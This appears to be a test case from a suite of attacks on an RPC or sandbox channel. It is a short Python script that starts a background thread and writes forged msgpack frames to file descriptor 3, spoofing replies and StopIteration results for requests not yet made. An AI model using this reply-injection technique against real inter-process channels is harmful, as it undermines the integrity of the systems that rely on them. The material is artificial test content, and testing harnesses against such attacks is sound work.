# title: messages written to the channel by a thread: answers to questions not yet asked
# loses: all
# untouched: yes
# place: first

# %% [attack]
import os
import struct
import threading
import time

import msgpack


def frame(*parts):
    data = msgpack.packb(parts)
    return struct.pack("!I", len(data)) + data


def forge():
    for number in range(1, 200):
        for parts in ((4, number, [2], 6), (6, number, [2]), (5, number, [2], "StopIteration", "", "")):
            os.write(3, frame(*parts))
        time.sleep(0.001)


threading.Thread(target=forge, daemon=True).start()
